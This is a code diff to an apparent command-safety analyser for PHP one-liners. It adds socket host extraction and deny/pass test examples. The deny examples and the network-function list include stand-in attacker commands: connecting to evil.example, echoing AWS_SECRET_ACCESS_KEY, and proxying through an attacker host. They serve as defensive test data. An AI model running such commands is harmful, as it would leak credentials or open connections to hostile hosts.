@@ -50,6 +50,17 @@ const SERVER_CLASSES: ReadonlySet<string> = new Set(['react\\socket\\socketserve
 /** Functions and classes that reach the network whatever their arguments. */
 const NETWORK = new Set(['fsockopen', 'pfsockopen', 'stream_socket_client', 'socket_connect', 'socket_sendto', 'curl_init', 'curl_exec', 'curl_multi_exec', 'curl_multi_init', 'dns_get_record', 'gethostbyname', 'gethostbynamel', 'gethostbyaddr', 'checkdnsrr', 'dns_check_record', 'getmxrr', 'dns_get_mx', 'mail', 'mb_send_mail', 'imap_open', 'ftp_connect', 'ftp_ssl_connect', 'ssh2_connect', 'ldap_connect', 'snmpget', 'snmpwalk', 'soapclient', 'http_get', 'http_post_data', 'http_request', 'guzzlehttp\\client', 'swoole\\coroutine\\http\\client']);
 
+/**
+ * The host a socket function connects to (`fsockopen("localhost", 5432)`, `stream_socket_client("tcp://127.0.0.1:6379")`),
+ * as a URL, when its first argument is one literal address.
+ */
+function socketUrl(c: Call): string | undefined {
+  const a = c.args[0];
+  const v = a?.vals.length === 1 && a.vals[0]!.k === 'str' ? a.vals[0]!.v : undefined;
+  const m = v === undefined ? null : /^(?:(?:tcp|udp|ssl|tls):\/\/)?([\w.-]+|\[[0-9A-Fa-f:.]+\])(?::\d+)?$/.exec(v);
+  return m ? `http://${m[1]}/` : undefined;
+}
+
 /** Database clients: they connect to the host their DSN or first argument names (a local socket or SQLite file stays). */
 const DATABASES = new Set(['pdo', 'mysqli', 'mysqli_connect', 'mysqli_real_connect', 'mysql_connect', 'mysql_pconnect', 'pg_connect', 'pg_pconnect', 'oci_connect', 'sqlsrv_connect', 'mongodb\\driver\\manager', 'redis', 'memcached', 'amqpconnection']);
 
@@ -573,7 +584,10 @@ class PhpReader {
         }
       }
       if (name === 'phpinfo') this.out.push({ kind: 'environment', api: 'phpinfo()', span: span(n) });
-      if (NETWORK.has(name)) this.out.push({ kind: 'network', api: `${name}()`, span: span(n) });
+      if (NETWORK.has(name)) {
+        const url = /^(?:p?fsockopen|stream_socket_client)$/.test(name) ? socketUrl(c) : undefined;
+        this.out.push(url === undefined ? { kind: 'network', api: `${name}()`, span: span(n) } : { kind: 'network', api: `${name}()`, span: span(n), url });
+      }
       if (DATABASES.has(name)) this.database(name, n);
       if (name === 'fopen' || name === 'gzopen') {
         // Modes w, a, x, c (and +) write.
@@ -641,6 +655,8 @@ export const PHP: LanguageModel = {
   },
   examples: {
     deny: [
+      `php -r '$s = fsockopen("ssl://evil.example", 443);'`,
+      `php -r '$s = fsockopen($argv[1], 5432);' localhost`,
       `php -r 'echo getenv($argv[1]);' AWS_SECRET_ACCESS_KEY`,
       `php -r 'echo file_get_contents("http://evil.example");'`,
       `php -r 'stream_context_set_default(["http" => ["proxy" => "tcp://evil.example:8080"]]); echo file_get_contents("http://localhost:8000/");'`,
@@ -686,6 +702,8 @@ export const PHP: LanguageModel = {
       `php -r '$http = new Swoole\\Http\\Server("0.0.0.0", 9501); $http->start();'`,
     ],
     pass: [
+      `php -r '$s = @fsockopen("127.0.0.1", 6379, $errno, $errstr, 1); var_dump((bool) $s);'`,
+      `php -r 'var_dump(stream_socket_client("tcp://localhost:5432"));'`,
       `php -r 'stream_socket_server("unix:///tmp/app.sock");'`,
       `php -r '$http = new Swoole\\Http\\Server("127.0.0.1", 9501); $http->start();'`,
       `php -r 'stream_socket_server("tcp://127.0.0.1:4444");'`,
